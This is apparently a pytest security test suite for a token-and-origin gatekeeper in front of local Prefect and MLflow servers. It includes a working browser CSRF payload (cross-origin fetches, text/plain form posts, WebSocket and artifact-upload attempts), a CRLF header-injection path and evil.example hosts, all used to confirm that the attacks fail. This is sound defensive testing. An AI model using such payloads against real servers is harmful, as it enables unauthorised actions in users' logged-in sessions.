"""Servers let in who has their token, and only their own pages: asked directly, and from a browser that knows them."""

import base64
import contextlib
import html
import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import threading
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from flows.servers.access import header, page, token_of
from flows.servers.door import Door
from flows.servers.processes import Server, listen, mlflow_server, port_of, prefect_server
from tasks.workspace.workspace import Workspace

OWN = {"host": ["127.0.0.1:5000"]}
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def basic(user_and_password: str) -> str:
    return f"Basic {base64.b64encode(user_and_password.encode()).decode()}"


def status(method: str = "GET", path: str = "/", kind: str = "http", asks: bool = True, **headers: str) -> int:
    """What a door says to a request; 200 if it lets it in."""
    sent = OWN | {name.replace("_", "-"): [value] for name, value in headers.items()}
    reply = Door(None, 5000, "right", asks).reply(kind, method, path, sent)
    return 200 if reply is None else reply.status


@pytest.mark.parametrize(
    ("authorization", "expected"),
    [
        (basic("retain:right"), 200),
        (basic("whoever:right"), 200),
        ("Bearer right", 200),
        (basic("retain:wrong"), 401),
        (basic("right"), 401),
        ("Basic retain:right", 401),
        ("Basic \xff", 401),
        ("Bearer ", 401),
        ("right", 401),
        ("", 401),
    ],
)
def test_who_has_the_token_is_let_in(authorization, expected):
    assert status(authorization=authorization) == expected
    assert status("PUT", "/artifacts/served.py", authorization=authorization) == expected
    assert status(kind="websocket", authorization=authorization) == expected


def test_whether_a_server_lives_anybody_may_ask():
    assert (status(path="/health"), status(path="/healthy"), status(path="/x/health")) == (200, 401, 401)


@pytest.mark.parametrize("kind", ["http", "websocket"])
@pytest.mark.parametrize(
    "host", ["evil.example:5000", "127.0.0.1", "127.0.0.1:4200", "127.0.0.1:5000.evil.example", ""]
)
def test_no_other_name_is_let_in_not_even_with_the_token(kind, host):
    for method in ("GET", "POST"):
        assert status(method, "/health", kind, host=host, authorization="Bearer right") == 403


def test_a_page_that_is_opened_as_localhost_is_led_to_the_address_that_is_let_in():
    assert (status(host="localhost:5000"), status("POST", host="localhost:5000")) == (307, 403)
    for path, expected in (("/retain", "/retain"), ("/a b\r\nSet-Cookie: c=d", "/a%20b%0D%0ASet-Cookie%3A%20c%3Dd")):
        reply = Door(None, 5000, "right", asks=True).reply("http", "GET", path, {"host": ["localhost:5000"]})
        assert dict(reply.headers)["Location"] == f"http://127.0.0.1:5000{expected}"


@pytest.mark.parametrize("asks", [True, False])
@pytest.mark.parametrize("kind", ["http", "websocket"])
@pytest.mark.parametrize(
    "origin", ["http://evil.example", "http://127.0.0.1:4200", "https://127.0.0.1:5000", "null", ""]
)
def test_no_page_of_another_origin_is_let_in_not_even_with_the_token(kind, origin, asks):
    assert status("POST", kind=kind, origin=origin, authorization="Bearer right", asks=asks) == 403
    assert status("POST", kind=kind, origin="http://127.0.0.1:5000", authorization="Bearer right", asks=asks) == 200


@pytest.mark.parametrize(
    ("site", "mode", "destination", "expected"),
    [
        ("same-origin", "no-cors", "image", 200),
        ("none", "navigate", "document", 200),
        ("cross-site", "navigate", "document", 200),
        ("cross-site", "navigate", "iframe", 403),
        ("same-site", "no-cors", "script", 403),
        ("cross-site", "no-cors", "image", 403),
    ],
)
def test_what_another_page_embeds_is_not_let_in(site, mode, destination, expected):
    sent = {"sec_fetch_site": site, "sec_fetch_mode": mode, "sec_fetch_dest": destination}
    assert status(authorization="Bearer right", **sent) == expected


def test_the_entrance_gives_a_cookie_that_opens_this_server_alone():
    door = Door(None, 5000, "right", asks=True)
    headers = {**OWN, "authorization": [basic("retain:right")], "origin": ["http://127.0.0.1:5000"]}
    kept = dict(door.reply("http", "POST", "/retain", headers).headers)["Set-Cookie"]
    cookie = kept.partition(";")[0]
    assert {"HttpOnly", "SameSite=Strict"} <= set(kept.split("; "))
    assert "right" not in kept
    assert status(cookie=f"other=1; {cookie}") == 200
    assert status(cookie=cookie[:-1]) == 401
    other = Door(None, 4200, "right", asks=True)
    assert other.reply("http", "GET", "/", {"host": ["127.0.0.1:4200"], "cookie": [cookie]}).status == 401
    assert status("POST", "/retain", authorization=basic("retain:wrong")) == 403
    assert "no-store" in dict(door.reply("http", "GET", "/retain", OWN).headers)["Cache-Control"]


def test_a_workspace_keeps_its_token_and_nobody_else_can_read_it(tmp_path):
    token = token_of(Workspace(tmp_path))
    assert len(token) >= 32
    assert token_of(Workspace(tmp_path)) == token
    assert token_of(Workspace(tmp_path / "other")) != token
    assert (tmp_path / ".retain").stat().st_mode & 0o777 == 0o700
    assert (tmp_path / ".retain" / "token").stat().st_mode & 0o777 == 0o600
    assert [path.name for path in (tmp_path / ".retain").iterdir()] == ["token"]


# Real servers and a real browser


@dataclass(frozen=True)
class Servers:
    """A Prefect and an MLflow server of one workspace."""

    workspace: Workspace
    prefect: str
    mlflow: str
    token: str

    def ask(self, url: str, content: object = None, **headers: str) -> tuple[int, str]:
        """Status and text of an answer; with the token, unless other headers are given."""
        body = None if content is None else json.dumps(content).encode()
        sent = {"Content-Type": "application/json", **(headers or header(self.token))}
        try:
            with urllib.request.urlopen(urllib.request.Request(url, data=body, headers=sent), timeout=60) as reply:
                return reply.status, reply.read().decode()
        except urllib.error.HTTPError as refused:
            return refused.code, refused.read().decode()

    def names(self) -> set[str]:
        """Every flow and experiment that is there."""
        _, answer = self.ask(f"{self.prefect}/api/csrf-token?client=test")
        csrf = {"Prefect-Csrf-Client": "test", "Prefect-Csrf-Token": json.loads(answer)["token"]}
        _, flows = self.ask(f"{self.prefect}/api/flows/filter", {}, **header(self.token), **csrf)
        _, experiments = self.ask(f"{self.mlflow}/api/2.0/mlflow/experiments/search?max_results=100")
        return {flow["name"] for flow in json.loads(flows)} | {
            experiment["name"] for experiment in json.loads(experiments)["experiments"]
        }


@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    workspace = Workspace(tmp_path_factory.mktemp("doors"))
    listeners, token = (listen(), listen()), token_of(workspace)
    ports = tuple(map(port_of, listeners))
    with contextlib.ExitStack() as running:
        started: list[Server] = [
            prefect_server(workspace.prefect_home, listeners[0], token),
            mlflow_server(
                workspace.state,
                f"sqlite:///{workspace.state}/mlflow.db",
                str(workspace.state / "kept"),
                listeners[1],
                token,
            ),
        ]
        for server in started:
            running.callback(server.stop)
        for server in started:
            server.wait()
        yield Servers(workspace, *(f"http://127.0.0.1:{port}" for port in ports), token)


@pytest.mark.slow
@pytest.mark.servers
def test_neither_server_does_anything_without_its_token(servers):
    nobody = {"User-Agent": "nobody"}
    assert servers.ask(f"{servers.prefect}/api/flows/", {"name": "taken"}, **nobody)[0] in (401, 403)
    assert servers.ask(f"{servers.prefect}/api/admin/version", **nobody)[0] == 401
    assert servers.ask(f"{servers.prefect}/api/admin/version")[0] == 200
    create = f"{servers.mlflow}/api/2.0/mlflow/experiments/create"
    assert servers.ask(create, {"name": "taken"}, **nobody)[0] == 401
    assert servers.ask(create, {"name": "given"})[0] == 200
    upload = f"{servers.mlflow}/api/2.0/mlflow-artifacts/artifacts/1/served.py"
    connection = http.client.HTTPConnection(servers.mlflow.removeprefix("http://"))
    connection.request("PUT", upload.removeprefix(servers.mlflow), b"evil")
    assert connection.getresponse().status == 401
    assert not list(servers.workspace.state.rglob("served.py"))
    assert "taken" not in servers.names()


@pytest.mark.slow
@pytest.mark.servers
def test_the_token_stands_in_no_log_and_in_no_arguments(servers):
    logs = b"".join(path.read_bytes() for path in servers.workspace.state.rglob("*.log"))
    arguments = subprocess.run(["ps", "-eo", "args"], capture_output=True, check=True).stdout
    assert servers.token.encode() not in logs + arguments


@pytest.mark.slow
@pytest.mark.servers
def test_programs_of_prefect_and_mlflow_are_let_in_with_what_they_are_told(servers, shell, monkeypatch):
    monkeypatch.setenv("PREFECT_API_URL", f"{servers.prefect}/api")
    monkeypatch.setenv("PREFECT_API_AUTH_STRING", f"retain:{servers.token}")
    socket = (
        "import asyncio\n"
        "from prefect.events import Event\n"
        "from prefect.events.clients import PrefectEventsClient, PrefectEventSubscriber\n"
        "from prefect.events.filters import EventFilter, EventNameFilter\n"
        "async def main():\n"
        "    which = EventFilter(event=EventNameFilter(name=['retain.test']))\n"
        "    async with PrefectEventSubscriber(filter=which) as heard, PrefectEventsClient() as client:\n"
        "        await client.emit(Event(event='retain.test', resource={'prefect.resource.id': 'retain.test'}))\n"
        "        async for event in heard:\n"
        "            print(event.event)\n"
        "            break\n"
        "asyncio.run(asyncio.wait_for(main(), 60))\n"
    )
    assert "retain.test" in shell(servers.workspace.root, "python", "-c", socket)
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", servers.token)
    listed = "import mlflow; print([e.name for e in mlflow.MlflowClient('{}').search_experiments()])"
    assert "Default" in shell(servers.workspace.root, "python", "-c", listed.format(servers.mlflow))


class Hostile(BaseHTTPRequestHandler):
    """A page that tries whatever a page can try, and then tells its own server what came of it."""

    def __init__(self, script: str, reports: list[dict[str, str]], *args: object) -> None:
        self.script, self.reports = script, reports
        super().__init__(*args)

    def do_POST(self) -> None:
        self.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(f"<body><script>{self.script}</script></body>".encode())

    def log_message(self, *args: object) -> None:
        pass


ATTACK = """
const AJAX = '/ajax-api/2.0/mlflow/experiments/';
const reports = {};
const body = JSON.stringify({name: NAME});
const form = url => {
  const frame = document.body.appendChild(document.createElement('iframe')); frame.name = 'frame' + Math.random();
  const form = document.body.appendChild(document.createElement('form'));
  Object.assign(form, {method: 'POST', action: url, target: frame.name, enctype: 'text/plain'});
  const field = form.appendChild(document.createElement('input'));
  [field.name, field.value] = [body.slice(0, -1) + ', "x": "', '"}']; form.submit();
};
const attempt = async (what, url, options) => {
  try {
    const reply = await fetch(url, {credentials: 'include', ...options});
    reports[what] = reply.type == 'opaque' ? 'sent' : await reply.text();
  } catch (error) { reports[what] = 'refused'; }
};
const socket = url => new Promise(done => {
  const open = new WebSocket(url, ['prefect']);
  open.onopen = () => { reports.socket = 'open'; done(); };
  open.onerror = () => { reports.socket = 'refused'; done(); };
});
(async () => {
  for (const [what, url, read, write] of [
      ['prefect', PREFECT, '/api/admin/settings', '/api/flows/'],
      ['mlflow', MLFLOW, AJAX + 'search?max_results=9', AJAX + 'create']
  ]) {
    await attempt(what + ' read', url + read, {});
    await attempt(what + ' json', url + write, {method: 'POST', body, headers: {'Content-Type': 'application/json'}});
    await attempt(what + ' plain', url + write, {method: 'POST', body, mode: 'no-cors'});
    form(url + write);
  }
  await attempt('mlflow put', MLFLOW + '/api/2.0/mlflow-artifacts/artifacts/1/served.py', {method: 'PUT', body});
  await socket(PREFECT.replace('http', 'ws') + '/api/events/out');
  await new Promise(done => setTimeout(done, 3000));
  await fetch('/', {method: 'POST', body: JSON.stringify(reports)});
})();
"""


@pytest.fixture(scope="module")
def browse(tmp_path_factory, until):
    """`browse(url)` gives what a browser shows after a while, `browse(url, until)` leaves the page when it is true; all
    pages are opened by the same person.
    """
    if CHROMIUM is None:
        pytest.skip("Chromium is not installed.")
    profile = tmp_path_factory.mktemp("profile")
    options = (
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
        "--disable-background-networking", "--disable-component-update", f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
    )  # fmt: skip
    env = {**os.environ, "HOME": str(profile)}

    def look(url: str, enough: Callable[[], object] | None = None) -> str:
        if enough is None:
            seen = [CHROMIUM, *options, "--virtual-time-budget=20000", "--dump-dom", url]
            done = subprocess.run(seen, capture_output=True, text=True, timeout=200, env=env)
            return html.unescape(done.stdout)
        with subprocess.Popen(
            [CHROMIUM, *options, "--remote-debugging-port=0", url],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env, start_new_session=True,
        ) as browser:  # fmt: skip
            try:
                until(120, enough)
            finally:
                os.killpg(browser.pid, signal.SIGTERM)
        return ""

    return look


@pytest.mark.slow
@pytest.mark.servers
def test_a_browser_is_let_in_by_the_link_that_is_printed(servers, browse):
    assert "Registered Models" not in browse(f"{servers.mlflow}/#/models")
    assert "This is not the token" in browse(page(servers.mlflow, "wrong"))
    assert "Registered Models" in browse(page(servers.mlflow, servers.token))
    assert "Registered Models" in browse(f"{servers.mlflow}/#/models")
    assert "Dashboard" in browse(page(servers.prefect, servers.token))
    assert "Dashboard" in browse(f"{servers.prefect}/")


@pytest.mark.slow
@pytest.mark.servers
@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "evil.example"])
def test_a_page_of_another_origin_can_do_nothing_in_a_browser_that_is_logged_in(servers, browse, host):
    for server in (servers.prefect, servers.mlflow):
        browse(page(server, servers.token))
    name = f"evil-{host}"
    script = ATTACK
    for word, value in (("PREFECT", servers.prefect), ("MLFLOW", servers.mlflow), ("NAME", name)):
        script = re.sub(rf"\b{word}\b", json.dumps(value), script)
    came: list[dict[str, str]] = []
    hostile = ThreadingHTTPServer(("127.0.0.1", 0), partial(Hostile, script, came))
    threading.Thread(target=hostile.serve_forever, daemon=True).start()
    try:
        browse(f"http://{host}:{hostile.server_port}/", lambda: came)
    finally:
        hostile.shutdown()
        hostile.server_close()
    refused = ("prefect read", "prefect json", "mlflow read", "mlflow json", "mlflow put", "socket")
    # What is sent without a wish to read the answer always is; what came of it, the servers tell below.
    assert came == [dict.fromkeys(refused, "refused") | {"prefect plain": "sent", "mlflow plain": "sent"}]
    assert name not in servers.names()
    assert not list(Path(servers.workspace.state).rglob("served.py"))


@pytest.mark.slow
@pytest.mark.servers
@pytest.mark.parametrize("which", ["prefect", "mlflow"])
def test_a_name_that_a_stranger_points_here_shows_nothing(servers, browse, which):
    port = getattr(servers, which).rpartition(":")[2]
    assert "and has no other name." in browse(f"http://evil.example:{port}/")
